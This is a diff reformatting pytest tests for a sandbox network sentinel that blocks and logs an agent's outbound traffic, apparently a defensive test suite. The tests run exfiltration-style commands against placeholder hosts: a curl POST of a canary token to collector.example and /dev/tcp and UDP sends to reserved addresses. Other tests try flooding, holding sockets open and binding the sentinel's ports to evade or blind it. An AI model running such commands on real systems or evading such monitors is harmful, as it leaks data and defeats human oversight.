@@ -21,8 +21,12 @@ pytestmark = pytest.mark.anyio
 
 def _query(name: str, qtype: int = 1, tid: int = 0x1234) -> bytes:
     labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
-    return struct.pack("!HHHHHH", tid, 0x0100, 1, 0, 0, 0) + labels + b"\0" + \
-        struct.pack("!HH", qtype, 1)
+    return (
+        struct.pack("!HHHHHH", tid, 0x0100, 1, 0, 0, 0)
+        + labels
+        + b"\0"
+        + struct.pack("!HH", qtype, 1)
+    )
 
 
 # parsers ---------------------------------------------------------------------------
@@ -45,27 +49,45 @@ def test_dns_aaaa_for_an_ipv4_sinkhole_has_no_answer() -> None:
     assert struct.unpack("!H", reply[6:8])[0] == 0
 
 
-@pytest.mark.parametrize("data", [b"", b"\x00" * 11, _query("a.b")[:-3],
-                                  b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x0c"])
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"",
+        b"\x00" * 11,
+        _query("a.b")[:-3],
+        b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x0c",
+    ],
+)
 def test_malformed_queries_raise_value_error(data: bytes) -> None:
     with pytest.raises(ValueError):
         sn.parse_query(data)
 
 
-@pytest.mark.parametrize("name", [
-    "6c6f6f742d6461746131323334353637383961.x.example",
-    "MZXW6YTBOI2DKNRXHA4TAMJSGM3DOOBZGAYTEMZU.data.example",
-    "aGVsbG8gd29ybGQgc2VjcmV0IGZsYWc.tunnel.example",
-    "a" * 41 + ".example",
-])
+@pytest.mark.parametrize(
+    "name",
+    [
+        "6c6f6f742d6461746131323334353637383961.x.example",
+        "MZXW6YTBOI2DKNRXHA4TAMJSGM3DOOBZGAYTEMZU.data.example",
+        "aGVsbG8gd29ybGQgc2VjcmV0IGZsYWc.tunnel.example",
+        "a" * 41 + ".example",
+    ],
+)
 def test_exfiltration_shaped_names_are_suspicious(name: str) -> None:
     assert sn.suspicious_name(name)
 
 
-@pytest.mark.parametrize("name", [
-    "pypi.org", "files.pythonhosted.org", "deb.debian.org", "www.google-analytics.com",
-    "d3c33hcgiwev3.cloudfront.net", "api.github.com", "ec2-3-120-1-5.eu-central-1.compute.example",
-])
+@pytest.mark.parametrize(
+    "name",
+    [
+        "pypi.org",
+        "files.pythonhosted.org",
+        "deb.debian.org",
+        "www.google-analytics.com",
+        "d3c33hcgiwev3.cloudfront.net",
+        "api.github.com",
+        "ec2-3-120-1-5.eu-central-1.compute.example",
+    ],
+)
 def test_everyday_names_are_not_suspicious(name: str) -> None:
     assert sn.suspicious_name(name) is None
 
@@ -84,16 +106,23 @@ def test_tls_sni_is_read_from_a_real_client_hello() -> None:
 
 def test_http_head_and_classify() -> None:
     req = b"POST /up?d=1 HTTP/1.1\r\nHost: c2.example:8080\r\nContent-Length: 3\r\n\r\nabc"
-    assert sn.classify(req) == {"proto": "http", "method": "POST", "path": "/up?d=1",
-                                "host": "c2.example"}
+    assert sn.classify(req) == {
+        "proto": "http",
+        "method": "POST",
+        "path": "/up?d=1",
+        "host": "c2.example",
+    }
     assert sn.http_head(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n")["host"] == "evil.example"
     assert sn.classify(b"SSH-2.0-OpenSSH_9.2\r\n") == {"proto": "tcp", "host": ""}
 
 
 def test_the_sentinel_refuses_unknown_ops_and_bad_json() -> None:
-    proc = subprocess.run([sys.executable, "-I", "-S", str(SENTINEL_PATH)],
-                          input=b'not json\n{"id": 3, "op": "explode"}\n', capture_output=True,
-                          timeout=20)
+    proc = subprocess.run(
+        [sys.executable, "-I", "-S", str(SENTINEL_PATH)],
+        input=b'not json\n{"id": 3, "op": "explode"}\n',
+        capture_output=True,
+        timeout=20,
+    )
     lines = [json.loads(line) for line in proc.stdout.decode().splitlines()]
     assert lines[0]["ready"] is True
     assert lines[1]["error"] == "bad_request"
@@ -122,8 +151,8 @@ async def test_lookups_attempts_and_requests_are_recorded(sandbox: LocalSandbox)
         "getent hosts evil.example; "
         "curl -s -m 3 -d 'k=CANARY-77' http://collector.example/in; echo; "
         "(echo x > /dev/tcp/203.0.113.9/4444) 2>/dev/null; "
-        "python3 -c 'import socket; socket.socket(2, 2).sendto(b\"hi\", (\"192.0.2.5\", 9999))'; "
-        "python3 -c 'import socket; socket.socket(2, 2).sendto(b\"q\", (\"8.8.8.8\", 53))'"
+        'python3 -c \'import socket; socket.socket(2, 2).sendto(b"hi", ("192.0.2.5", 9999))\'; '
+        'python3 -c \'import socket; socket.socket(2, 2).sendto(b"q", ("8.8.8.8", 53))\''
     )
     assert "blocked by the hazmat network sentinel" in res.stdout_text
     events = await sandbox.network_events()
@@ -131,8 +160,11 @@ async def test_lookups_attempts_and_requests_are_recorded(sandbox: LocalSandbox)
     dns = {e["name"] for e in events if e["type"] == "dns"}
     assert {"evil.example", "collector.example"} <= dns
     conns = {(e["proto"], e["remote"], e["port"]) for e in events if e["type"] == "connection"}
-    assert {("tcp", "203.0.113.9", 4444), ("udp", "192.0.2.5", 9999), ("udp", "8.8.8.8", 53)} \
-        <= conns
+    assert {
+        ("tcp", "203.0.113.9", 4444),
+        ("udp", "192.0.2.5", 9999),
+        ("udp", "8.8.8.8", 53),
+    } <= conns
     posted = [e for e in events if e["type"] == "network" and e["host"] == "collector.example"]
     assert posted and posted[0]["method"] == "POST" and "CANARY-77" in posted[0]["payload"]
     attempt = [e for e in events if e["type"] == "connection" and e.get("host")]
@@ -143,23 +175,22 @@ async def test_lookups_attempts_and_requests_are_recorded(sandbox: LocalSandbox)
 @pytest.mark.timeout(60)
 async def test_repeated_attempts_are_counted_not_listed(sandbox: LocalSandbox) -> None:
     await sandbox.network_events()
-    await sandbox.shell("for i in $(seq 50); do (echo > /dev/tcp/203.0.113.7/25) 2>/dev/null; "
-                        "done")
+    await sandbox.shell("for i in $(seq 50); do (echo > /dev/tcp/203.0.113.7/25) 2>/dev/null; done")
     events = await sandbox.network_events() or []
     smtp = [e for e in events if e["type"] == "connection" and e["port"] == 25]
     assert len(smtp) == 1 and smtp[0]["count"] >= 50
 
 
 @pytest.mark.timeout(60)
-async def test_the_agent_cannot_see_stop_or_impersonate_the_sentinel(
-        sandbox: LocalSandbox) -> None:
+async def test_the_agent_cannot_see_stop_or_impersonate_the_sentinel(sandbox: LocalSandbox) -> None:
     assert sandbox.sentinel is not None
     assert sandbox.info()["sentinel"]["uid"] == 65534
     ps = await sandbox.shell("ps -eo args")
     assert "sentinel" not in ps.stdout_text
     # its ports are taken: the agent cannot bind the resolver or sinkhole ports
     bind = await sandbox.shell(
-        "python3 -c 'import socket; s=socket.socket(2, 2); s.bind((\"0.0.0.0\", 53))'")
+        "python3 -c 'import socket; s=socket.socket(2, 2); s.bind((\"0.0.0.0\", 53))'"
+    )
     assert bind.exit_code != 0 and ("in use" in bind.stderr_text or "denied" in bind.stderr_text)
     # DNS still answers after the agent tried
     res = await sandbox.shell("getent hosts still.example")
@@ -195,9 +226,11 @@ async def test_sentinel_off_means_no_events() -> None:
 @pytest.mark.timeout(90)
 async def test_a_flood_of_attempts_cannot_push_a_request_out(sandbox: LocalSandbox) -> None:
     await sandbox.network_events()
-    flood = ("python3 -c 'import socket\n"
-             "for i in range(3000):\n"
-             "    socket.socket(2, 2).sendto(b\"x\", (\"10.%d.%d.1\" % (i // 250, i % 250), 7))'")
+    flood = (
+        "python3 -c 'import socket\n"
+        "for i in range(3000):\n"
+        '    socket.socket(2, 2).sendto(b"x", ("10.%d.%d.1" % (i // 250, i % 250), 7))\''
+    )
     await sandbox.shell(flood + "; curl -s -m 3 -d k=FLOOD-CANARY http://after.example/")
     events = await sandbox.network_events() or []
     assert sum(e["type"] == "connection" for e in events) == sn.MAX_EVENTS
@@ -208,13 +241,15 @@ async def test_a_flood_of_attempts_cannot_push_a_request_out(sandbox: LocalSandb
 @pytest.mark.timeout(90)
 async def test_held_open_connections_do_not_blind_the_sentinel(sandbox: LocalSandbox) -> None:
     await sandbox.network_events()
-    hold = ("python3 -c 'import socket, time\n"
-            "socks = []\n"
-            "for i in range(400):\n"
-            "    s = socket.socket(); s.connect((\"198.51.100.%d\" % (i % 200 + 1), 80))\n"
-            "    socks.append(s)\n"
-            "time.sleep(0.5)' & sleep 0.3; "
-            "curl -s -m 3 -d k=HELD-CANARY http://late.example/; wait")
+    hold = (
+        "python3 -c 'import socket, time\n"
+        "socks = []\n"
+        "for i in range(400):\n"
+        '    s = socket.socket(); s.connect(("198.51.100.%d" % (i % 200 + 1), 80))\n'
+        "    socks.append(s)\n"
+        "time.sleep(0.5)' & sleep 0.3; "
+        "curl -s -m 3 -d k=HELD-CANARY http://late.example/; wait"
+    )
     res = await sandbox.shell(hold)
     assert "blocked by the hazmat network sentinel" in res.stdout_text
     events = await sandbox.network_events() or []
